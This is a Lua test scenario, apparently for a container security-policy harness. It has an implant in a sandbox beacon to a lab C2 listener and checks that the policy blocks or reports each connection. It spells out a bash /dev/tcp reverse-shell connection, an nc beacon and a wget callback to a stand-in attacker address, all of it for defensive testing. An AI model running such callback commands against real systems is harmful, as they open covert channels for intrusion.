-- c2-connect: a compromised sandbox calls home. A C2 listener waits on
-- 198.18.66.1:4444 (a lab address, RFC 2544) and counts what reaches it; the
-- implant tries a bash /dev/tcp reverse shell, a raw TCP beacon with busybox
-- nc and an HTTP beacon with busybox wget. In enforce mode the C2 must see
-- zero connections and each implant must be stopped; in monitor mode the
-- beacons arrive and are reported.

local C2, PORT = "198.18.66.1", 4444

local implants = {
  { name = "bash /dev/tcp", argv = { "bash", "-c",
      "exec 3<>/dev/tcp/" .. C2 .. "/" .. PORT .. "; echo beacon-bash >&3" } },
  { name = "nc", argv = { "nc", C2, tostring(PORT), stdin = "beacon-nc\n" } },
  { name = "wget", argv = { "wget", "-q", "-O", "-", "http://" .. C2 .. ":" .. PORT .. "/beacon-wget" } },
}

return scenario {
  name = "c2-connect",
  title = "A reverse shell in a container tries to reach its C2 server",
  requires = { "enforce" },

  setup = function(ctx)
    ctx.box = lab.sandbox { name = "c2-victim", labels = { role = "victim" } }
    ctx.c2 = lab.c2 { box = ctx.box, addr = C2, port = PORT }
    lab.policy.apply "policies/block-c2.yaml"
  end,

  run = function(ctx)
    ctx.procs = {}
    for i, imp in ipairs(implants) do
      lab.step("implant beacons with " .. imp.name)
      local argv = { table.unpack(imp.argv) }
      argv.stdin, argv.timeout = imp.argv.stdin, 5
      ctx.procs[i] = ctx.box:spawn(argv)
    end
  end,

  verify = function(ctx)
    if ctx.mode == "enforce" then
      lab.expect.no_connection(ctx.c2)
      for _, p in ipairs(ctx.procs) do
        if ctx.opt.sandbox == "vm" then
          lab.expect.denied(p, "EPERM") -- the guest's LSM fails connect()
        else
          lab.expect.killed(p)
        end
      end
    else
      lab.expect.connection(ctx.c2)
      lab.expect.that(ctx.c2:connections() == #implants,
        "the C2 saw every beacon (" .. ctx.c2:connections() .. "/" .. #implants .. ")")
    end
    for _, p in ipairs(ctx.procs) do
      lab.expect.event { policy = "lab-block-c2", pid = p.pid, timeout = 5,
                         sandbox = ctx.opt.sandbox == "vm" and ctx.box.name or nil }
    end
  end,
}
